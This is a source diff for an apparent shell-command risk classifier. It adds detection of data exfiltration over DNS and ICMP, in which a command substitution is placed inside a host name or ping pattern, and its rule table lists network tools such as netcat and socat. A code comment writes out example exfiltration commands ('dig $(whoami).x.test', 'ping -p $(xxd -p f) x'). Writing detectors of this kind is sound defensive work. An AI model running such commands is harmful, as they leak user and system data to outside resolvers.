@@ -344,6 +344,19 @@ static void transfer_commands(struct cctx *x, const struct cmdv *c)
 		upload(x, &c->w[0], "uploads files named in its commands");
 }
 
+/* dig $(cmd).x.test, ping -p $(xxd -p f) x: a name or a pattern made at
+ * run time sends what the substitution prints to the resolver or host
+ * (`dig $(whoami).x.test` was net.fetch, as a lookup of a fixed name). */
+static void rule_probe_data(struct cctx *x, struct cmdv *c)
+{
+	for (size_t i = 1; i < c->n; i++)
+		if (c->w[i].flags & W_SUBST) {
+			upload(x, &c->w[i], "sends what a command prints inside a host name or probe "
+			                    "(DNS or ICMP as a channel out)");
+			return;
+		}
+}
+
 /* aria2c --on-download-complete=PROG (and the other events) runs PROG
  * with the download's path: it was net.fetch alone. */
 static void rule_aria2c(struct cctx *x, struct cmdv *c)
@@ -986,6 +999,9 @@ static void rule_ansible(struct cctx *x, struct cmdv *c)
 #define NET(n, why) {n, 0, NULL, TIER_HIGH, "net.fetch", why, NULL}
 /* operands are hosts or URLs (P_HOST); ao: the options that take a value */
 #define NETO(n, ao, why) {n, P_HOST, ao, TIER_HIGH, "net.fetch", why, NULL}
+/* a host name or a ping pattern made by a command substitution carries its
+ * output out (DNS exfiltration): net.upload */
+#define PROBE(n, ao, why) {n, P_HOST, ao, TIER_HIGH, "net.fetch", why, rule_probe_data}
 #define HTTPIE(n, why) {n, 0, NULL, TIER_HIGH, "net.fetch", why, rule_httpie}
 #define TUNNEL(n) {n, 0, NULL, TIER_HIGH, "net.listen", "exposes a local port to the internet", NULL}
 #define LISTEN(n) {n, 0, NULL, TIER_HIGH, "net.listen", "serves on the network", NULL}
@@ -998,13 +1014,13 @@ const struct prog rules_net[] = {
 	FN("netcat", rule_nc), FN("telnet", rule_nc), FN("ftp", rule_nc), FN("tftp", rule_nc),
 	FN("lftp", rule_nc), FN("socat", rule_socat), FN("ssh", rule_ssh),
 	FN("scp", rule_copy_remote), FN("sftp", rule_copy_remote), FN("rsync", rule_copy_remote),
-	NETO("ping", "cfiIlmMpQsStTwW", "sends network probes"),
-	NETO("ping6", "cfiIlmMpQsStTwW", "sends network probes"),
-	NETO("traceroute", "fgimNpqstwzAF", "sends network probes"),
-	NETO("mtr", "aBcfGimPQsuYZ", "sends network probes"),
-	NETO("dig", "bcfkpqtxy", "queries DNS over the network"),
-	NETO("nslookup", "", "queries DNS over the network"),
-	NETO("host", "cNRtW", "queries DNS over the network"),
+	PROBE("ping", "cfiIlmMpQsStTwW", "sends network probes"),
+	PROBE("ping6", "cfiIlmMpQsStTwW", "sends network probes"),
+	PROBE("traceroute", "fgimNpqstwzAF", "sends network probes"),
+	PROBE("mtr", "aBcfGimPQsuYZ", "sends network probes"),
+	PROBE("dig", "bcfkpqtxy", "queries DNS over the network"),
+	PROBE("nslookup", "", "queries DNS over the network"),
+	PROBE("host", "cNRtW", "queries DNS over the network"),
 	NETO("whois", "hpgiTs", "queries a whois server"),
 	HTTPIE("http", "sends an HTTP request (httpie)"),
 	HTTPIE("https", "sends an HTTP request (httpie)"), HTTPIE("xh", "sends an HTTP request"),
